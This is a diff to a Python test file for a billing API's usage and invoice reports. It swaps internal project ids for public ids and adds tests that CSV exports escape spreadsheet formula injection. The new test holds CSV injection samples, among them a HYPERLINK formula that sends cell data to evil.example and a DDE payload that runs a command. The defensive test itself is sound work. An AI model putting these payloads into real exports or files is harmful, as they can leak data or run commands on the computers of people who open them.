@@ -99,7 +99,7 @@ def test_usage_report_by_day_project_and_end_user_in_json_and_csv(api, project, 
     assert by_day["rows"] == [{"day": today, "tasks": 2, "images": 3, "amount": "0.03000"}]
     assert by_day["total"] == {"tasks": 2, "images": 3, "amount": "0.03000"} and by_day["currency"] == "USD"
     by_project = api.get("/api/v2/usage", {"group_by": "project"}).json()["rows"]
-    assert [(r["project"], r["images"]) for r in by_project] == [(project.id, 2), (other_project.id, 1)]
+    assert [(r["project"], r["images"]) for r in by_project] == [(project.public_id, 2), (other_project.public_id, 1)]
     by_user = api.get("/api/v2/usage", {"group_by": "end_user", "from": today, "to": today}).json()["rows"]
     assert [(r["end_user"], r["amount"]) for r in by_user] == [("alice", "0.02000"), ("bob", "0.01000")]
 
@@ -138,11 +138,11 @@ def test_invoices_list_detail_csv_and_html_for_their_tenant_only(api, project, c
     invoice_id = invoices[0]["id"]
     detail = api.get(f"/api/v2/invoices/{invoice_id}").json()
     assert detail["lines"] == [
-        {"project_id": project.id, "tier": 1, "unit_price": "0.01000", "images": 2, "amount": "0.02000"}
+        {"project_id": project.public_id, "tier": 1, "unit_price": "0.01000", "images": 2, "amount": "0.02000"}
     ]
     as_csv = api.get(f"/api/v2/invoices/{invoice_id}", {"format": "csv"})
     rows = list(csv.reader(io.StringIO(as_csv.content.decode())))
-    assert rows[1] == [str(project.id), "1", "0.01000", "2", "0.02000"] and rows[-1][-1] == "0.02000"
+    assert rows[1] == [str(project.public_id), "1", "0.01000", "2", "0.02000"] and rows[-1][-1] == "0.02000"
     html = api.get(f"/api/v2/invoices/{invoice_id}/html")
     assert html.status_code == 200 and html["Content-Type"].startswith("text/html")
     assert detail["number"] in html.content.decode() and "0.02000" in html.content.decode()
@@ -155,3 +155,21 @@ def test_invoices_list_detail_csv_and_html_for_their_tenant_only(api, project, c
         assert response.status_code == 404 and response.content == missing.content
         assert anon.get(url).status_code == 401
     assert stranger.get("/api/v2/invoices").json() == []
+
+
+def test_usage_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(api, client):
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+    for end_user in hostile + ["plain", "1-2"]:
+        finish(submit(client, end_user=end_user), delivered=1)
+    response = api.get("/api/v2/usage", {"group_by": "end_user", "format": "csv"})
+    cells = [row[0] for row in csv.reader(io.StringIO(response.content.decode()))][1:]
+    assert sorted(cells) == sorted(["'" + value for value in hostile] + ["plain", "1-2"])
+    # The JSON report keeps the values as they are: only spreadsheets run formulas.
+    rows = api.get("/api/v2/usage", {"group_by": "end_user"}).json()["rows"]
+    assert {row["end_user"] for row in rows} >= set(hostile)
+
+
+def test_csv_cells_numbers_and_control_characters():
+    from billing.api import csv_cell
+
+    assert [csv_cell(v) for v in ("\tx", "\rx", "x=1", "", -1, D("-0.5"))] == ["'\tx", "'\rx", "x=1", "", -1, D("-0.5")]
